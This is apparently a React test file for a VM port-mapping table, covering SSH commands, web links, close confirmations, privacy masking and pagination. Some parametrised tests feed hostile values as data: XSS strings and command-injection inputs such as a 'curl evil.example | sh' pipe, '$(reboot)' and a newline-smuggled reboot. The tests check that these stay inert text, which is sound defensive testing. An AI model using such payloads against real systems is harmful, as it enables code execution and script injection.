import { act, render, renderHook, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { signInForTest } from "@/testing/session";
import { renderWithProviders } from "@/testing/test-utils";
import { mockPorts } from "../ports/port-mocks";
import { NetworkSection } from "./detail-sections";
import { PrivacyModeProvider, usePrivacySwitch } from "@/lib/privacy/privacy-mode";
import { exampleVmParts } from "@/testing/factories/vm-parts";
import { PortMappingTable, webLink } from "./port-mapping-table";

const VM_8_PORTS = exampleVmParts().network.ports;

describe("PortMappingTable", () => {
  it("shows VM 8's mappings with the SSH command and links to the web ports", () => {
    render(<PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />);
    const table = screen.getByRole("table", { name: "Port mappings from 10.99.88.77 to this VM" });
    expect(
      within(table)
        .getAllByRole("columnheader")
        .map((cell) => cell.textContent),
    ).toEqual(["Public address", "Internal port", "Description", "Use it"]);
    const rows = within(table).getAllByRole("row").slice(1);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toHaveTextContent("10.99.88.77:9000");
    expect(rows[0]).toHaveTextContent("22");
    expect(within(rows[0] as HTMLElement).getByText("ssh -p 9000 root@10.99.88.77")).toBeVisible();
    const http = within(rows[1] as HTMLElement).getByRole("link", { name: /Open HTTP/ });
    expect(http).toHaveAttribute("href", "http://10.99.88.77:9001/");
    expect(http).toHaveAttribute("target", "_blank");
    expect(http).toHaveAttribute("rel", "noopener noreferrer");
    expect(
      within(rows[2] as HTMLElement).getByRole("link", { name: /Open HTTPS/ }),
    ).toHaveAttribute("href", "https://10.99.88.77:9002/");
  });

  it("says plainly when there is no public IP or no mapping", () => {
    const { rerender } = render(
      <PortMappingTable publicIp={undefined} ports={VM_8_PORTS} sshUser="root" />,
    );
    expect(screen.getByText(/no public IP address, so no ports are reachable/)).toBeVisible();
    rerender(<PortMappingTable publicIp="10.99.88.77" ports={[]} sshUser="root" />);
    expect(screen.getByText("No ports are mapped to this VM.")).toBeVisible();
  });

  it("opens long lists in steps", () => {
    const ports = Array.from({ length: 250 }, (_, i) => ({
      publicPort: 10000 + i,
      internalPort: 8080,
    }));
    render(<PortMappingTable publicIp="10.99.88.77" ports={ports} sshUser="root" />);
    expect(screen.getByText("Showing 25 of 250 port mappings.")).toBeVisible();
    expect(screen.getByRole("button", { name: "Show 25 more" })).toBeVisible();
  });
});

describe("closing a mapping", () => {
  beforeEach(async () => {
    await signInForTest();
  });

  async function openSection() {
    const user = userEvent.setup();
    const mock = mockPorts();
    renderWithProviders(<NetworkSection vmId="8" enabled />);
    const table = await screen.findByRole("table", { name: /Port mappings from 10.99.88.77/ });
    return { user, mock, table };
  }

  it("closes an ordinary mapping after one confirmation naming it, with exactly one DELETE", async () => {
    const { user, mock, table } = await openSection();
    const close = within(table).getByRole("button", {
      name: "Close public port 9001 (to internal port 80)",
    });
    await user.click(close);
    const dialog = screen.getByRole("dialog", { name: "Close 10.99.88.77:9001 → 80?" });
    expect(dialog).toHaveTextContent(
      "10.99.88.77:9001 will stop reaching internal port 80 on this VM.",
    );
    expect(dialog).toHaveTextContent("Description: HTTP port for VM 8 (internal port 80)");
    expect(within(dialog).getByRole("button", { name: "Cancel" })).toHaveFocus();

    // Cancel sends nothing and gives focus back.
    await user.click(within(dialog).getByRole("button", { name: "Cancel" }));
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(close).toHaveFocus();
    expect(mock.sent).toEqual([]);

    await user.click(close);
    await user.dblClick(screen.getByRole("button", { name: "Close 10.99.88.77:9001" }));
    expect(await screen.findByText("Closed 10.99.88.77:9001 → 80.")).toBeVisible();
    // The refreshed table follows the message within a frame or two.
    await waitFor(() => {
      expect(within(table).queryByText("10.99.88.77:9001")).toBeNull();
    });
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(mock.sent).toEqual([{ method: "DELETE", body: { port: 9001 } }]);
  });

  it("asks twice for the SSH mapping, the second time typed, and cancel at either step sends nothing", async () => {
    const { user, mock, table } = await openSection();
    const close = within(table).getByRole("button", {
      name: "Close public port 9000 (to internal port 22)",
    });
    await user.click(close);
    const first = screen.getByRole("dialog", { name: "Close 10.99.88.77:9000 → 22?" });
    expect(first).toHaveTextContent("Description: SSH port for VM 8 (internal port 22)");
    expect(first).toHaveTextContent("This mapping carries SSH: a second step follows.");
    await user.click(within(first).getByRole("button", { name: "Continue" }));
    expect(mock.sent).toEqual([]);

    const second = screen.getByRole("dialog", { name: "You will lose SSH access" });
    expect(second).toHaveTextContent(
      "10.99.88.77:9000 is how SSH reaches this VM. Once it is closed you cannot log in over SSH unless you have another way in",
    );
    const confirm = within(second).getByRole("button", {
      name: "Close 10.99.88.77:9000 and SSH access",
    });
    expect(confirm).toBeDisabled();
    const typed = within(second).getByRole("textbox", { name: "Type 22 to confirm" });
    await user.type(typed, "2");
    expect(confirm).toBeDisabled();
    // Cancel at the second step sends nothing either.
    await user.click(within(second).getByRole("button", { name: "Cancel" }));
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(mock.sent).toEqual([]);

    await user.click(close);
    await user.click(screen.getByRole("button", { name: "Continue" }));
    await user.type(screen.getByRole("textbox", { name: "Type 22 to confirm" }), "22");
    expect(mock.sent).toEqual([]);
    await user.click(screen.getByRole("button", { name: "Close 10.99.88.77:9000 and SSH access" }));
    expect(await screen.findByText("Closed 10.99.88.77:9000 → 22.")).toBeVisible();
    // The refreshed table follows the message within a frame or two.
    await waitFor(() => {
      expect(within(table).queryByText("10.99.88.77:9000")).toBeNull();
    });
    expect(mock.sent).toEqual([{ method: "DELETE", body: { port: 9000 } }]);
  });

  it("keeps the mapping and says the API's reason when closing fails, with Try again for a 5xx", async () => {
    const { user, mock, table } = await openSection();
    mock.failNext(500, { error: "internal", message: "Injected fault." });
    await user.click(
      within(table).getByRole("button", { name: "Close public port 9002 (to internal port 443)" }),
    );
    await user.click(screen.getByRole("button", { name: "Close 10.99.88.77:9002" }));
    const dialog = screen.getByRole("dialog", { name: "Close 10.99.88.77:9002 → 443?" });
    const alert = await within(dialog).findByRole("alert");
    expect(alert).toHaveTextContent("The API had a problem closing this mapping. Injected fault.");
    expect(within(table).getByText("10.99.88.77:9002")).toBeVisible();
    await user.click(within(alert).getByRole("button", { name: "Try again" }));
    expect(await screen.findByText("Closed 10.99.88.77:9002 → 443.")).toBeVisible();
    expect(mock.sent).toHaveLength(2);
  });

  it("masks the addresses in privacy mode", async () => {
    const user = userEvent.setup();
    mockPorts();
    const { result } = renderHook(() => usePrivacySwitch());
    const { setOn } = result.current;
    act(() => {
      setOn(true);
    });
    try {
      renderWithProviders(
        <PrivacyModeProvider>
          <NetworkSection vmId="8" enabled />
        </PrivacyModeProvider>,
      );
      const table = await screen.findByRole("table", { name: /Port mappings from •••/ });
      await user.click(
        within(table).getByRole("button", { name: "Close public port 9001 (to internal port 80)" }),
      );
      const dialog = screen.getByRole("dialog", { name: "Close •••:9001 → 80?" });
      expect(dialog).not.toHaveTextContent("10.99.88.77");
    } finally {
      act(() => {
        setOn(false);
      });
    }
  });
});

describe("webLink", () => {
  it("brackets an IPv6 address", () => {
    expect(webLink("2001:db8::1", 9001, 80)).toBe("http://[2001:db8::1]:9001/");
  });

  it.each(['evil.example/"><script>', "javascript:alert(1)", "", "a b"])(
    "never links a hostile address %j anywhere but http(s)",
    (ip) => {
      const link = webLink(ip, 9001, 80);
      if (link !== null) expect(link).toMatch(/^http:\/\//);
      expect(link ?? "").not.toMatch(/javascript:|<script/i);
    },
  );

  it("only links web ports", () => {
    expect(webLink("10.99.88.77", 9000, 22)).toBeNull();
  });
});

/** Nothing on screen or in an accessible name reads as a broken value. */
function expectNoBrokenText(container: HTMLElement) {
  const attributes = [...container.querySelectorAll("*")].flatMap((element) =>
    ["aria-label", "title", "href"].map((name) => element.getAttribute(name)),
  );
  const all = [container.textContent, ...attributes].join("\n");
  expect(all).not.toMatch(/NaN|Infinity|undefined|\[object Object\]/);
}

/** Makes the viewport wide (table only) or narrow (list only); jsdom has no matchMedia. */
function viewport(wide: boolean) {
  vi.stubGlobal("matchMedia", (media: string) => ({
    matches: wide,
    media,
    addEventListener: () => undefined,
    removeEventListener: () => undefined,
  }));
}

afterEach(() => {
  vi.unstubAllGlobals();
});

describe("PortMappingTable with VM 8's ports", () => {
  it("builds both the table and the phone list where the viewport is unknown", () => {
    const { container } = render(
      <PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />,
    );
    const table = screen.getByRole("table", { name: "Port mappings from 10.99.88.77 to this VM" });
    expect(table.querySelector("caption")).toHaveTextContent(
      "Port mappings from 10.99.88.77 to this VM",
    );
    const list = screen.getByRole("list", { name: "Port mappings from 10.99.88.77" });
    expect(within(list).getAllByRole("listitem")).toHaveLength(3);
    expect(screen.getAllByText("ssh -p 9000 root@10.99.88.77")).toHaveLength(2);
    expectNoBrokenText(container);
  });

  it("shows each mapping's address, internal port and description in its own column", () => {
    render(<PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />);
    const table = screen.getByRole("table");
    const rows = within(table).getAllByRole("row").slice(1);
    const cells = rows.map((row) =>
      within(row)
        .getAllByRole("cell")
        .slice(0, 3)
        .map((cell) => cell.textContent),
    );
    expect(cells).toEqual([
      ["10.99.88.77:9000", "22", "SSH port for VM 8 (internal port 22)"],
      ["10.99.88.77:9001", "80", "HTTP port for VM 8 (internal port 80)"],
      ["10.99.88.77:9002", "443", "HTTPS port for VM 8 (internal port 443)"],
    ]);
  });

  it("links the web ports in a new tab, safely, in both layouts", () => {
    render(<PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />);
    const links = screen.getAllByRole("link");
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "http://10.99.88.77:9001/",
      "https://10.99.88.77:9002/",
      "http://10.99.88.77:9001/",
      "https://10.99.88.77:9002/",
    ]);
    for (const link of links) {
      expect(link).toHaveAttribute("target", "_blank");
      expect(link).toHaveAttribute("rel", "noopener noreferrer");
    }
    // The address is read out after the service name.
    expect(links[0]).toHaveTextContent("Open HTTP http://10.99.88.77:9001/ (opens in a new tab)");
    expect(links[1]).toHaveTextContent("Open HTTPS https://10.99.88.77:9002/ (opens in a new tab)");
  });

  it("offers the SSH command to copy", () => {
    render(<PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />);
    expect(screen.getAllByRole("button", { name: "Copy SSH command" })).toHaveLength(2);
    expect(screen.getAllByRole("button", { name: "Copy address of port 9001" })).toHaveLength(2);
  });

  it("builds only the table on a wide screen and only the list on a phone", () => {
    viewport(true);
    const { unmount } = render(
      <PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />,
    );
    expect(screen.getByRole("table")).toBeInTheDocument();
    expect(screen.queryByRole("list")).not.toBeInTheDocument();
    unmount();

    viewport(false);
    render(<PortMappingTable publicIp="10.99.88.77" ports={VM_8_PORTS} sshUser="root" />);
    expect(screen.queryByRole("table")).not.toBeInTheDocument();
    const list = screen.getByRole("list", { name: "Port mappings from 10.99.88.77" });
    expect(within(list).getAllByRole("listitem")[0]).toHaveTextContent(
      "10.99.88.77:9000→ to internal port 22SSH port for VM 8 (internal port 22)",
    );
  });
});

describe("PortMappingTable in unusual cases", () => {
  it.each([undefined, ""])("says there is no public IP for %j, and shows no table", (ip) => {
    render(<PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />);
    expect(
      screen.getByText(
        "This VM has no public IP address, so no ports are reachable from the internet.",
      ),
    ).toBeVisible();
    expect(screen.queryByRole("table")).not.toBeInTheDocument();
    expect(screen.queryByRole("link")).not.toBeInTheDocument();
  });

  it("says no ports are mapped, and shows no table", () => {
    render(<PortMappingTable publicIp="10.99.88.77" ports={[]} sshUser="root" />);
    expect(screen.getByText("No ports are mapped to this VM.")).toBeVisible();
    expect(screen.queryByRole("table")).not.toBeInTheDocument();
  });

  it("brackets an IPv6 public IP in the links", () => {
    viewport(true);
    render(<PortMappingTable publicIp="2001:db8::1" ports={VM_8_PORTS} sshUser="root" />);
    expect(screen.getByRole("link", { name: /^Open HTTP(?!S)/ })).toHaveAttribute(
      "href",
      "http://[2001:db8::1]:9001/",
    );
    expect(screen.getByRole("link", { name: /^Open HTTPS/ })).toHaveAttribute(
      "href",
      "https://[2001:db8::1]:9002/",
    );
    expect(screen.getByText("ssh -p 9000 root@2001:db8::1")).toBeVisible();
  });

  it("shows a dash instead of a link for a mapping with no description and a web port it cannot link", () => {
    viewport(true);
    render(
      <PortMappingTable
        publicIp="not a host"
        ports={[{ publicPort: 9001, internalPort: 80 }]}
        sshUser="root"
      />,
    );
    const cells = within(screen.getByRole("table")).getAllByRole("cell");
    expect(cells.map((cell) => cell.textContent)).toEqual(["not a host:9001", "80", "—", "—"]);
    expect(screen.queryByRole("link")).not.toBeInTheDocument();
  });

  it.each([
    'evil.example/"><script>',
    "javascript:alert(1)",
    "data:text/html,<script>",
    "10.99.88.77; curl evil.example | sh",
    "$(reboot)",
    "10.99.88.77\nreboot",
  ])("shows the hostile public IP %j as text only: no command, no link", async (ip) => {
    const user = userEvent.setup();
    viewport(true);
    const { container } = render(
      <PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />,
    );
    expect(container.querySelector("script")).toBeNull();
    expect(screen.queryByRole("link")).not.toBeInTheDocument();
    expect(container.querySelector("code")).toBeNull();
    expect(container.textContent).not.toMatch(/ssh -p/);
    expect(screen.queryByRole("button", { name: /SSH command/i })).not.toBeInTheDocument();
    const firstRow = within(screen.getByRole("table")).getAllByRole("row")[1] as HTMLElement;
    // A line break is shown, and copied, as an escape: one line, never a command.
    const shown = `${ip.replaceAll("\n", "\\n")}:9000`;
    expect(firstRow).toHaveTextContent(shown, { normalizeWhitespace: false });
    await user.click(within(firstRow).getByRole("button", { name: "Copy address of port 9000" }));
    expect(await navigator.clipboard.readText()).toBe(shown);
  });

  it.each([
    ["a host name", "vm-8.example.com"],
    ["an IPv6 literal with an embedded IPv4", "::ffff:192.0.2.1"],
  ])("still offers the command for %s", (_, ip) => {
    viewport(true);
    render(<PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />);
    expect(screen.getByText(`ssh -p 9000 root@${ip}`)).toBeVisible();
  });

  it("shows hostile descriptions as text", () => {
    const description = "<script>alert(1)</script><img src=x onerror=alert(1)>";
    const { container } = render(
      <PortMappingTable
        publicIp="10.99.88.77"
        ports={[{ publicPort: 9000, internalPort: 22, description }]}
        sshUser="root"
      />,
    );
    expect(screen.getAllByText(description)).toHaveLength(2);
    expect(container.querySelector("script, img")).toBeNull();
  });

  it("takes 5,000 mappings and builds them 25 at a time", async () => {
    viewport(true);
    const user = userEvent.setup();
    const ports = Array.from({ length: 5000 }, (_, index) => ({
      publicPort: 10000 + index,
      internalPort: [22, 80, 443, 8080][index % 4] ?? 22,
      description: `Mapping ${String(index + 1)}`,
    }));
    const { container } = render(
      <PortMappingTable publicIp="10.99.88.77" ports={ports} sshUser="root" />,
    );
    const table = screen.getByRole("table");
    const bodyRows = () => (table as HTMLTableElement).tBodies[0]?.rows.length;
    expect(bodyRows()).toBe(25);
    expect(screen.getByText("Showing 25 of 5,000 port mappings.")).toBeVisible();

    await user.click(screen.getByRole("button", { name: "Show 25 more" }));
    expect(await screen.findByText("Showing 50 of 5,000 port mappings.")).toBeVisible();
    expect(bodyRows()).toBe(50);
    expect(within(table).getAllByRole("row").at(-1)).toHaveTextContent("10.99.88.77:10049");

    expectNoBrokenText(container);
  });
});

describe("webLink links only the address shown", () => {
  it.each([
    'evil.example/"><script>',
    "10.99.88.77#x",
    "10.99.88.77@evil.example",
    "10.99.88.77/path",
  ])("%j gets no link to another host, port or path", (ip) => {
    const link = webLink(ip, 9001, 80);
    expect(link === null ? null : new URL(link).host).toBeOneOf([null, `${ip}:9001`]);
  });

  it("still links a plain address, and the default port", () => {
    expect(webLink("10.99.88.77", 9001, 80)).toBe("http://10.99.88.77:9001/");
    expect(webLink("10.99.88.77", 443, 443)).toBe("https://10.99.88.77/");
  });
});
